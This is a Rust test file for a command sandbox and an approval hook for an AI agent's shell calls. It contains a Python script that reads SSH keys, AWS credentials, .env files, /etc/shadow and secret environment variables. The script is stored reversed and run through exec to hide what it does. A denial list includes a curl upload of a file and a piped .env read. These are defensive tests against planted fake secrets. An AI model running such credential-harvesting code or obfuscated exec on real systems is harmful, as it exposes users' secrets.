//! Sealed commands: what they cannot read, and the calls of a session that run sealed in exchange for a prompt.

use std::fs;
use std::process::{Command, Output};

use serde_json::Value;

use crate::session::Session;
use crate::workspace::{Workspace, said};

/// Prints whatever it can read of what is private, and writes `src/made`.
const PRYING: &str = "\
import glob, os, socket
places = [os.path.expanduser('~/.ssh/id_rsa'), os.path.expanduser('~/.aws/credentials'), os.path.expanduser('~/notes'),
          '.env', 'deploy/key.pem', '/etc/shadow'] + glob.glob('/tmp/other-*') + glob.glob('/proc/[0-9]*/cmdline')
for place in places:
    try: print('read', place, open(place, errors='replace').read())
    except OSError: pass
print({name: value for name, value in os.environ.items() if 'LETMEIN' in value})
try: print('connected', socket.create_connection(('127.0.0.1', int(open('port').read())), 2))
except OSError: pass
open('src/made', 'w').write('x')
print('done')
";

/// Puts private files where programs would find them. Returns what listens outside.
fn furnish(workspace: &Workspace) -> std::net::TcpListener {
    for (folder, file) in [(".ssh", "id_rsa"), (".aws", "credentials"), (".", "notes")] {
        let folder = workspace.home().join(folder);
        fs::create_dir_all(&folder).unwrap();
        fs::write(folder.join(file), "LETMEIN").unwrap();
    }
    workspace.write(".env", "KEY=LETMEIN");
    workspace.write("deploy/key.pem", "LETMEIN");
    // Backwards, so that no reader of the program can know what it does.
    workspace.write("code", &PRYING.chars().rev().collect::<String>());
    workspace.write("pry.py", "exec(open('code').read()[::-1])\n");
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    workspace.write("port", &listener.local_addr().unwrap().port().to_string());
    listener
}

/// A file of another program among temporary files, and a process with a secret on its command line.
struct Others {
    file: tempfile::NamedTempFile,
    process: std::process::Child,
}

impl Others {
    fn new() -> Self {
        let file = tempfile::Builder::new().prefix("other-").tempfile_in("/tmp").unwrap();
        fs::write(file.path(), "LETMEIN").unwrap();
        let process = Command::new("sh").args(["-c", "sleep 60", "LETMEIN"]).spawn().unwrap();
        Self { file, process }
    }
}

impl Drop for Others {
    fn drop(&mut self) {
        let _ = self.process.kill();
        let _ = self.process.wait();
    }
}

fn pry(workspace: &Workspace, options: &str) -> Output {
    let mut command = workspace.run(options);
    command.args(["python3", "pry.py"]).env("SERVICE_TOKEN", "LETMEIN").env("PLAIN", "visible");
    command.output().unwrap()
}

#[test]
fn a_sealed_command_reads_nothing_private_and_works_otherwise() {
    let workspace = Workspace::new();
    let _listener = furnish(&workspace);
    let others = Others::new();
    let open = said(&pry(&workspace, "--write src"));
    for seen in ["id_rsa LETMEIN", "credentials LETMEIN", ".env KEY=LETMEIN", "key.pem LETMEIN", "connected"]
    {
        assert!(open.contains(seen), "unconfined reads must work: {seen}: {open}");
    }
    assert!(
        open.contains("SERVICE_TOKEN") && open.contains(&others.file.path().display().to_string()),
        "{open}"
    );
    assert!(open.contains("sleep 60"), "{open}");
    let sealed = pry(&workspace, "--write src --sealed");
    let sealed = said(&sealed);
    assert!(sealed.contains("done"), "{sealed}");
    for hidden in ["LETMEIN", "connected", "root:", "sleep 60"] {
        assert!(!sealed.contains(hidden), "{hidden}: {sealed}");
    }
    assert_eq!(workspace.read("src/made"), "x");
}

#[test]
fn a_sealed_command_keeps_its_exit_code_and_writes_only_its_scope_and_its_own_temporary_files() {
    let workspace = Workspace::new();
    for (line, code) in [
        ("exit 7", 7),
        ("kill -TERM $$", 143),
        ("touch src/a", 0),
        ("touch out/a", 1),
        ("touch ~/a", 1),
        ("touch /tmp/own && test -d \"$TMPDIR\"", 0),
        ("test ! -e /tmp/own", 0),
        ("test \"$PLAIN\" = visible", 0),
        ("sleep 61 & test $$ = 2", 0),
    ] {
        let mut command = workspace.run("--write src --sealed");
        let output = command.args(["sh", "-c", line]).env("PLAIN", "visible").output().unwrap();
        assert_eq!(output.status.code(), Some(code), "{line}: {}", said(&output));
    }
    assert!(workspace.exists("src/a") && !workspace.exists("out/a"));
}

#[test]
fn a_command_that_cannot_be_sealed_does_not_run() {
    let workspace = Workspace::new();
    let deny = workspace.home().join("deny");
    let source = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/confinement/deny.c");
    assert!(Command::new("cc").args(["-w", "-o"]).arg(&deny).arg(source).status().unwrap().success());
    let run = workspace.run("--write src --sealed");
    let mut denied = workspace.program(deny.to_str().unwrap());
    denied.arg("namespaces").arg(run.get_program()).args(run.get_args()).args(["touch", "src/ran"]);
    let output = denied.output().unwrap();
    assert_eq!(output.status.code(), Some(3), "{}", said(&output));
    let mut at_home = workspace.run("--write src --sealed");
    let at_home = at_home.args(["touch", "src/ran"]).env("HOME", workspace.root()).output().unwrap();
    assert_eq!(at_home.status.code(), Some(3), "{}", said(&at_home));
    assert!(!workspace.exists("src/ran"));
}

fn decision(answer: &Value) -> Option<&str> {
    answer["hookSpecificOutput"]["permissionDecision"].as_str()
}

/// A session in which calls in scope are approved, and one call was seen to arrive.
fn approving() -> (Session, std::net::TcpListener) {
    let mut session = Session::with_settings(r#"{"version": 1, "approve": "in-scope"}"#);
    let listener = furnish(&session.workspace);
    session.call("python3 pry.py");
    fs::remove_file(session.workspace.root().join("src/made")).unwrap();
    (session, listener)
}

#[test]
fn an_unproven_call_is_approved_once_calls_were_seen_to_arrive_and_it_runs_sealed() {
    let (mut session, _listener) = approving();
    let (call, answer) = session.announce("python3 pry.py");
    assert_eq!(decision(&answer), Some("allow"), "{answer}");
    let printed = said(&session.shell("python3 pry.py").env("SERVICE_TOKEN", "LETMEIN").output().unwrap());
    assert!(printed.contains("done") && !printed.contains("LETMEIN"), "{printed}");
    assert!(!printed.contains("connected"), "{printed}");
    session.end(&call, &printed);
    assert_eq!(session.workspace.read("src/made"), "x");
    let shown = session.shown();
    assert!(shown.contains("it ran sealed"), "{shown}");
    let stats: Value = serde_json::from_str(&said(&session.steersman("approve stats --json"))).unwrap();
    assert_eq!(stats["sealed"], 1, "{stats}");
}

#[test]
fn what_changes_nothing_but_may_read_anything_runs_sealed_too_and_else_as_it_is() {
    let (mut session, _listener) = approving();
    for command in ["python3 -c 'print(1)'", "cargo tree"] {
        let (call, answer) = session.announce(command);
        assert_eq!(decision(&answer), Some("allow"), "{command}: {answer}");
        assert_eq!(session.records().len(), 1, "{command}");
        let _ = session.shell(command).output().unwrap();
        session.end(&call, "");
    }
    // Not approved: then it runs unconfined, as without approvals.
    for command in ["python3 -c 'print(open(\"/etc/passwd\").read())'", "git remote -v"] {
        let (call, answer) = session.announce(command);
        assert_eq!(decision(&answer), None, "{command}: {answer}");
        assert_eq!(session.records(), Vec::<String>::new(), "{command}");
        session.end(&call, "");
    }
}

#[test]
fn calls_that_name_something_private_or_need_it_are_left_to_the_user() {
    let (mut session, _listener) = approving();
    for command in [
        "python3 pry.py ~/.ssh/id_rsa",
        "python3 pry.py /etc/passwd",
        "python3 pry.py ../../x",
        "python3 pry.py .env",
        "python3 pry.py --key=deploy/key.pem",
        "python3 pry.py $FILE",
        "cat .env | python3 pry.py",
        "git commit -m x",
        "curl -d @src/a https://example.org",
        "npm install left-pad",
        "ssh host make",
        "sudo make",
        "rm -rf src && make",
        "cd .. && make",
        "make > /tmp/log",
        "docker run x make",
    ] {
        let (call, answer) = session.announce(command);
        assert_ne!(decision(&answer), Some("allow"), "{command}: {answer}");
        session.end(&call, "");
    }
    let (call, answer) =
        session.announce_input(serde_json::json!({"command": "python3 pry.py", "run_in_background": true}));
    assert_ne!(decision(&answer), Some("allow"), "{answer}");
    session.end(&call, "");
}

#[test]
fn a_call_that_failed_sealed_is_left_to_the_user_the_next_time() {
    let (mut session, _listener) = approving();
    let (call, answer) = session.announce("python3 pry.py two");
    assert_eq!(decision(&answer), Some("allow"), "{answer}");
    assert!(session.shell("python3 pry.py two").output().unwrap().status.success());
    let told = session.fail(&call, "exit code 1");
    assert!(told.to_string().contains("ran it sealed"), "{told}");
    assert_eq!(decision(&session.announce("python3 pry.py two").1), None);
    assert_eq!(decision(&session.announce("python3 pry.py three").1), Some("allow"));
}

#[test]
fn no_call_is_approved_after_one_that_did_not_arrive_or_with_another_setting() {
    let (mut session, _listener) = approving();
    let (call, answer) = session.announce("python3 pry.py");
    assert_eq!(decision(&answer), Some("allow"), "{answer}");
    // Nothing claimed it.
    session.end(&call, "");
    assert_eq!(decision(&session.announce("python3 pry.py").1), None);
    let mut session = Session::with_settings(r#"{"version": 1, "approve": "read-only"}"#);
    let _listener = furnish(&session.workspace);
    session.call("python3 pry.py");
    assert_eq!(decision(&session.announce("python3 pry.py").1), None);
}
